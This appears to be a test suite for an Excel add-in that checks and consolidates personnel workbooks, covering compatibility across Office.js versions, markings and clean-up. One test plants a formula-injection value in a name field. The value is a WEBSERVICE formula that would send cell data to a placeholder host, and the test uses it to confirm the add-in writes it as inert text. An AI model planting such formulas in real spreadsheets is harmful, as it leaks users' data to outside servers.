import { consolidate, consolidatedSheets } from '../../src/core/consolidate';
import { FileCheck } from '../../src/core/cross/context';
import { checkWorkbook } from '../../src/core/engine';
import { PALETTE } from '../../src/core/plan';
import { DEFAULT_PROFILE } from '../../src/core/profile';
import { STATE_SHEET } from '../../src/office/state';
import { clearMarks, validate } from '../../src/office/validate';
import { demoUnits } from '../../src/sample/demo';
import { SimWorkbookState } from '../../src/sim/model';
import { writeSheets } from '../../src/office/host';
import { changes, checkDate, excel, openDemo, opts, snapshot } from './book';

/**
 * The defects found by reading the add-in against Microsoft's typings and issue tracker: each one as the
 * clerk meets it, on the strict simulation. Every test here failed before its fix.
 */
const ok = async (p: ReturnType<typeof validate>) => {
  const out = await p;
  if (!out.ok) throw new Error(`${out.message} | ${out.detail}`);
  return out;
};

describe('1. the hidden state sheet', () => {
  it('a second 校验 and 清除标记 work where the state sheet was made very hidden (ExcelApi 1.2, no conditional formats)', async () => {
    const wb = openDemo();
    const before = snapshot(wb);
    const { run, caps } = excel(wb, '1.2');
    await ok(validate(run, caps, opts));
    expect(wb.sheet(STATE_SHEET)!.visibility).toBe('VeryHidden');
    await ok(validate(run, caps, opts));
    expect((await clearMarks(run, caps)).ok).toBe(true);
    expect(changes(before, snapshot(wb))).toEqual({ added: [], removed: [] });
  });
});

describe('2. Worksheet.visibility is set only where ExcelApi 1.2 allows it', () => {
  it('校验 and 清除标记 on ExcelApi 1.1', async () => {
    const wb = openDemo();
    const before = snapshot(wb);
    const { run, caps } = excel(wb, '1.1');
    await ok(validate(run, caps, opts));
    expect((await clearMarks(run, caps)).ok).toBe(true);
    expect(changes(before, snapshot(wb))).toEqual({ added: [], removed: [] });
  });
});

describe('3. each kind of clean-up on its own requirement set', () => {
  it('a workbook checked on Microsoft 365 (1.18, notes) is checked again and cleared on LTSC 2021 (1.14)', async () => {
    const wb = openDemo();
    await ok(validate(excel(wb, '1.18').run, excel(wb, '1.18').caps, opts));
    const notes = wb.sheet('人员')!.notes.size;
    const e = excel(wb, '1.14');
    await ok(validate(e.run, e.caps, opts));
    const cleared = await clearMarks(e.run, e.caps);
    expect(cleared.ok).toBe(true);
    // notes need 1.18: they stay, and the clerk is told so instead of "恢复原样"
    expect(wb.sheet('人员')!.notes.size).toBe(notes);
    expect(cleared.message).not.toContain('恢复原样');
    expect(cleared.message).toMatch(/注释（需要 Microsoft 365/);
  });

  it('threaded comments written on 1.14 are removed on 1.18', async () => {
    const wb = openDemo();
    const before = snapshot(wb);
    const old = excel(wb, '1.14');
    await ok(validate(old.run, old.caps, opts));
    expect([...wb.sheet('人员')!.comments.values()].some((c) => c.content.startsWith('['))).toBe(true);
    const now = excel(wb, '1.18');
    expect((await clearMarks(now.run, now.caps)).ok).toBe(true);
    expect(changes(before, snapshot(wb))).toEqual({ added: [], removed: [] });
  });

  it('compatibility mode on 1.8 removes the conditional formats a full-mode run left', async () => {
    const wb = openDemo();
    const before = snapshot(wb);
    const full = excel(wb, '1.9');
    await ok(validate(full.run, full.caps, opts));
    const basic = excel(wb, '1.8');
    expect(basic.caps.mode).toBe('basic');
    const cleared = await clearMarks(basic.run, basic.caps);
    expect(cleared.ok).toBe(true);
    expect(changes(before, snapshot(wb))).toEqual({ added: [], removed: [] });
  });
});

describe('4. more than 512 merged areas', () => {
  it('a form that merges cells row by row is read without merges, with a notice', async () => {
    const demo = demoUnits(checkDate)[0].book.sheets[0];
    const head = demo.rows.slice(0, 3);
    const people = demo.rows.slice(3).filter((r) => r.some((v) => v !== null && v !== ''));
    const rows = [...head];
    while (rows.length < 620) rows.push(...people.map((r) => [...r]));
    // every row's 备注 spans two merged cells, far to the right of the table
    const merges: string[] = [];
    rows.forEach((r, i) => {
      if (i < 3) return;
      r[24] = '备注';
      merges.push(`Y${i + 1}:Z${i + 1}`);
    });
    expect(merges.length).toBeGreaterThan(512);
    const wb = SimWorkbookState.from([{ name: demo.name, rows, merges }]);
    const { run, caps } = excel(wb, '1.18');
    const out = await ok(validate(run, caps, opts));
    expect(out.result.people.length).toBeGreaterThan(512);
    expect(out.notices.map((n) => n.zh).join('')).toContain('合并单元格超过 512 个');
  });
});

describe('5. text written through Range.values arrives as text', () => {
  it("明细 keeps 18-digit ID numbers, leading zeros and the units' texts exactly; '=' text is never a formula", async () => {
    const units = demoUnits(checkDate);
    const files: FileCheck[] = units.map((u) => {
      const grid = { file: u.file, sheets: u.book.sheets.map((s) => ({ name: s.name, rows: s.rows.map((r) => [...r]) })) };
      return { file: u.file, status: 'ok', message: '', result: checkWorkbook(grid, { checkDate }) } as FileCheck;
    });
    // a unit's cell text that Excel would take for a formula, a date and a number
    const p = files[0].result!.people[0];
    p.name = '=WEBSERVICE("http://example.invalid/?q="&A1)';
    const m = consolidate(files, DEFAULT_PROFILE, []);
    const wb = SimWorkbookState.from([{ name: 'Sheet1', rows: [] }]);
    const { run, caps } = excel(wb, '1.18');
    const out = await writeSheets(run, caps, consolidatedSheets(m, { unit: '柞水县司法局', checkDate, profile: DEFAULT_PROFILE, generatedAt: '2024-06-05 09:30', maskIds: false }));
    expect(out).toEqual({ ok: true, message: '', en: '' });
    const detail = wb.sheet('明细')!;
    const cells = [...detail.cells.values()];
    expect(cells.filter((c) => c.formula)).toEqual([]);
    const ids = cells.map((c) => c.value).filter((v) => typeof v === 'string' && /^\d{17}[\dX]$/.test(v));
    expect(ids.length).toBeGreaterThan(20);
    expect(cells.some((c) => typeof c.value === 'number' && c.value > 1e15)).toBe(false);
    expect(cells.some((c) => c.value === p.name)).toBe(true);
    for (const s of wb.sheets) for (const c of s.cells.values()) if (c.formula) expect(c.formula).toMatch(/^=HYPERLINK\("#/);
  });
});

describe('6. the first read is bounded, and the clerk\'s own conditional formats are read apart', () => {
  it('a sheet whose first 3,000 rows pass 5 MB is still read', async () => {
    const demo = demoUnits(checkDate)[0].book.sheets[0];
    const long = '备注'.repeat(400);
    const rows = demo.rows.map((r, i) => (i < 3 ? r : [...r, long, long]));
    for (let i = rows.length; i < 3000; i++) rows.push([null, null, null, null, null, null, null, null, long, long, long]);
    const wb = SimWorkbookState.from([{ name: demo.name, rows }]);
    const { run, caps, sim } = excel(wb, '1.18');
    await ok(validate(run, caps, opts));
    expect(sim.totals().maxResponseBytes).toBeLessThanOrEqual(5 * 1024 * 1024);
  });

  it('a rule Excel cannot read (office-js #6827) does not stop the check', async () => {
    const wb = openDemo();
    wb.sheets[0].conditionalFormats.push({ ranges: ['人员!B5:B9'], formula: '', type: 'CellValue', unreadable: true });
    const { run, caps } = excel(wb, '1.18');
    const out = await ok(validate(run, caps, opts));
    expect(out.notices.map((n) => n.zh).join('')).toContain('条件格式');
  });
});

describe('7. our conditional formats are found by their formula when they are deleted', () => {
  it('two of our rules on one cell, and the clerk\'s own rule beside them: the second 校验 and 清除标记 remove ours only', async () => {
    const wb = openDemo();
    const before = snapshot(wb);
    const { run, caps } = excel(wb, '1.9');
    await ok(validate(run, caps, opts));
    const person = wb.sheet('人员')!;
    const ours = person.conditionalFormats.filter((c) => c.formula !== '=$A5=""');
    const cells = ours.flatMap((c) => c.ranges.flatMap((r) => r.split(',')));
    expect(new Set(cells).size).toBeLessThan(cells.length); // two rules share a cell
    await ok(validate(run, caps, opts));
    expect(person.conditionalFormats.length).toBe(ours.length + 1);
    expect((await clearMarks(run, caps)).ok).toBe(true);
    expect(changes(before, snapshot(wb))).toEqual({ added: [], removed: [] });
  });
});

describe('8. a cell holds a note or a thread, not both', () => {
  it('on 1.14 a finding cell with the clerk\'s note (which 1.14 cannot see) keeps it; the other messages still go in', async () => {
    const wb = openDemo();
    const first = await ok(validate(excel(wb, '1.14').run, excel(wb, '1.14').caps, opts));
    const person = wb.sheet('人员')!;
    const d05 = first.result.findings.find((f) => f.rule === 'D05')!;
    const key = person.key(d05.row - 1, d05.col - 1);
    expect((await clearMarks(excel(wb, '1.14').run, excel(wb, '1.14').caps)).ok).toBe(true);
    person.notes.set(key, '职务待核');
    const out = await ok(validate(excel(wb, '1.14').run, excel(wb, '1.14').caps, opts));
    expect(person.notes.get(key)).toBe('职务待核');
    expect(person.comments.has(key)).toBe(false);
    expect([...person.comments.values()].filter((c) => c.content.startsWith('[')).length).toBeGreaterThan(0);
    expect(out.notices.map((n) => n.zh).join('')).toMatch(/\d+ 处/);
  });

  it('on 1.18 a finding cell with the clerk\'s thread gets no note', async () => {
    const wb = openDemo();
    const first = await ok(validate(excel(wb, '1.18').run, excel(wb, '1.18').caps, opts));
    const person = wb.sheet('人员')!;
    const d05 = first.result.findings.find((f) => f.rule === 'D05')!;
    const key = person.key(d05.row - 1, d05.col - 1);
    expect((await clearMarks(excel(wb, '1.18').run, excel(wb, '1.18').caps)).ok).toBe(true);
    person.comments.set(key, { id: '{clerk-2}', content: '已请示' });
    await ok(validate(excel(wb, '1.18').run, excel(wb, '1.18').caps, opts));
    expect(person.notes.has(key)).toBe(false);
    expect(person.comments.get(key)?.content).toBe('已请示');
  });
});

describe('10. the summary chart', () => {
  it('has the 执法主体 as categories and a red 红 series', async () => {
    const wb = openDemo();
    const { run, caps } = excel(wb, '1.18');
    await ok(validate(run, caps, opts));
    const chart = wb.sheet('汇总')!.charts[0];
    expect(chart.series.map((x) => x.categories)).toEqual(Array(3).fill(chart.series[0].categories));
    expect(chart.series[0].categories).toMatch(/^汇总!B\d+:B\d+$/);
    expect(chart.series.map((x) => x.fill)).toEqual([PALETTE.chart.red, PALETTE.chart.yellow, PALETTE.chart.green].map((c) => `#${c}`));
  });
});
